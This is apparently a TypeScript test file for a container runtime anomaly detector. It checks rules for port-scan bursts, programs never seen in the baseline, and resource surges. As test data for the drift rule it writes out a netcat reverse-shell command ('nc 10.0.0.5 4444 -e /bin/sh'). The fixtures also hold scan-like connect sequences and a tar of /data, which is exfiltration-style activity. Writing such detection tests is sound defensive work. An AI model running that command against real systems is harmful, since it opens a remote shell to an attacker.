/**
 * The destination-burst, new-program (drift) and resource-surge rules on hand-made window facts.
 */
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { DRIFT_RULE, RISKY_RULE, burstRuleReasons, driftRuleReason, joinReasons, surgeRuleReason } from '../../src/detect/rules.js';
import { programKey } from '../../src/detect/features.js';
import type { WindowFacts } from '../../src/detect/facts.js';

const ref = { host: 'h', capture: 'c', arch: 'x86_64', containerId: 'x', name: 'n', image: 'i', startNs: 0n, endNs: 10n };
const win = (over: Partial<WindowFacts>): WindowFacts => ({
  ref, w: 0n, startNs: 0n, endNs: 5_000_000_000n, seconds: 5, syscalls: new Map(), execs: [], forks: 0, exits: 0,
  opens: new Map(), connects: [], accepts: [], resources: null, lifecycle: false, ...over,
});

const SEC = 1_000_000_000n;
const W = 5n * SEC;
const seenPeers = new Set(['10.0.0.2']);
const seenPorts = new Set(['80']);
/** n connects to ports from..from+n-1 of 10.0.0.2, one every `everyMs` from `atNs`. */
const scan = (from: number, n: number, atNs: bigint, everyMs = 10) =>
  Array.from({ length: n }, (_, i) => ({ peer: '10.0.0.2', port: from + i, n: 1, failed: 1, firstNs: atNs + BigInt(Math.round(i * everyMs * 1e6)) }));
const at = (w: bigint, connects: WindowFacts['connects']) => win({ w, startNs: w * W, endNs: (w + 1n) * W, connects });
const bursts = (windows: WindowFacts[]) => burstRuleReasons(windows, seenPeers, seenPorts, 10, W);

test('burst rule: 10 new destinations flag, 9 do not, known ones never count', () => {
  assert.equal(bursts([at(0n, scan(8000, 9, SEC))]).size, 0);
  const r = bursts([at(0n, [...scan(8000, 10, SEC), { peer: '10.0.0.2', port: 80, n: 5, failed: 0, firstNs: SEC }])]).get(0);
  assert.match(r!.text, /^rule: connected to 10 destinations never seen in baseline \(1 host\) — 10\.0\.0\.2: 10 ports \(8000, 8001/);
});

// Measured in the system test: the port scan (50 ports in 0.3–0.7 s) was cut by a 5 s window
// boundary after its 7th port; the window holding 8000–8006 had too few to fire (the rule counted per
// window), and a scan of 10–19 ports cut in two fired nowhere.
test('burst rule: a burst cut by a window boundary flags both windows, each naming the whole burst', () => {
  const before = scan(8000, 7, W - 70n * 1_000_000n);
  const after = scan(8007, 43, W);
  const r = bursts([at(0n, before), at(1n, after)]);
  assert.deepEqual([...r.keys()].sort(), [0, 1]);
  assert.match(r.get(0)!.text, /^rule: connected to 50 destinations never seen in baseline \(1 host; 7 of them in this window, all within 5 s\) — 10\.0\.0\.2: 50 ports \(8000, 8001/);
  assert.match(r.get(1)!.text, /^rule: connected to 50 destinations never seen in baseline \(1 host; 43 of them in this window, all within 5 s\) — 10\.0\.0\.2: 50 ports \(8000, 8001/);
  // 12 ports, 6 on each side: no window holds 10, one span of 5 s does
  const small = bursts([at(0n, scan(8000, 6, W - 60n * 1_000_000n)), at(1n, scan(8006, 6, W))]);
  assert.deepEqual([...small.keys()].sort(), [0, 1]);
  assert.match(small.get(1)!.text, /connected to 12 destinations .* 12 ports \(8000, 8001/);
});

test('burst rule: the span is one window length: 6 new destinations every window never add up to a burst', () => {
  // 6 per window, evenly spread: any 5 s span holds 6, so nothing fires (pairs of windows would hold 12)
  const windows = Array.from({ length: 8 }, (_, i) => at(BigInt(i), scan(9000 + 6 * i, 6, BigInt(i) * W, 5000 / 6)));
  assert.equal(bursts(windows).size, 0);
  // the same destination again in the next window is one destination, not two
  const again = [at(0n, scan(8000, 6, W - 100n * 1_000_000n)), at(1n, scan(8000, 6, W))];
  assert.equal(bursts(again).size, 0);
  // a window far from the burst is not flagged by it
  const r = bursts([at(0n, scan(8000, 10, SEC)), at(1n, scan(8100, 3, W + 2n * SEC)), at(3n, scan(8200, 1, 3n * W))]);
  assert.deepEqual([...r.keys()], [0]);
});

test('drift rule: busybox applets are told apart by argv[0]; a known program does not fire', () => {
  const nc = { filename: '/proc/self/exe', n: 1, argv: ['nc', '10.0.0.5', '4444', '-e', '/bin/sh'], truncated: false };
  const wget = { filename: '/proc/self/exe', n: 1, argv: ['wget', '-q', 'http://web/'], truncated: false };
  assert.equal(programKey(nc), '/proc/self/exe [nc]');
  assert.equal(programKey({ filename: '/bin/sh', argv: ['sh', '-c', 'x'] }), '/bin/sh');
  const seen = new Set([programKey(wget)]);
  assert.equal(driftRuleReason(win({ execs: [wget] }), seen), null);
  assert.match(driftRuleReason(win({ execs: [wget, nc] }), seen)!.text, /^rule: program never run in baseline: \/proc\/self\/exe \[nc\] with argv `nc 10\.0\.0\.5 4444 -e \/bin\/sh`/);
});

test('surge rule: CPU 3× the baseline max and 0.1 core more; forks; nothing without a baseline', () => {
  const res = (cpu: number) => ({ samples: 5, cpuCores: cpu, memoryBytes: 1e6, pids: null, ioBytesPerS: 0, netRxBytesPerS: 0, netTxBytesPerS: 0 });
  const base = { cpuCores: 0.04, pids: Infinity, forks: 37 };
  assert.match(surgeRuleReason(win({ resources: res(0.19) }), base, 3, 5)!.text, /CPU 0\.19 cores vs baseline max 0\.04/);
  assert.equal(surgeRuleReason(win({ resources: res(0.1) }), base, 3, 5), null, 'below 3×');
  assert.match(surgeRuleReason(win({ forks: 157 }), base, 3, 5)!.text, /157 processes forked vs baseline max 37/);
  assert.equal(surgeRuleReason(win({ forks: 157, resources: res(1) }), null, 3, 5), null);
});

test('reasons: a fired new-program rule drops the forest reason restating the same programs, nothing else', () => {
  const rule = { feature: DRIFT_RULE, text: 'rule: program never run in baseline: /bin/tar with argv `tar -c /data`', contribution: 1 };
  const forest = [
    { feature: 'new_programs', text: 'new program /bin/tar started with argv `tar -c /data`', contribution: 0.4 },
    { feature: 'new_syscalls', text: 'sendfile called 7 times, never seen in baseline', contribution: 0.3 },
    { feature: 'new_peers', text: 'connected to new peer 10.0.0.66 (port 9000)', contribution: 0.2 },
  ];
  assert.deepEqual(joinReasons([rule], forest).map((r) => r.feature), [DRIFT_RULE, 'new_syscalls', 'new_peers']);
  // another rule restates nothing of the forest's: all reasons stay
  const risky = { feature: RISKY_RULE, text: 'rule: risky syscall never seen in baseline: ptrace called 1 time', contribution: 1 };
  assert.deepEqual(joinReasons([risky], forest).map((r) => r.feature), [RISKY_RULE, 'new_programs', 'new_syscalls', 'new_peers']);
  assert.deepEqual(joinReasons([], forest), forest);
});
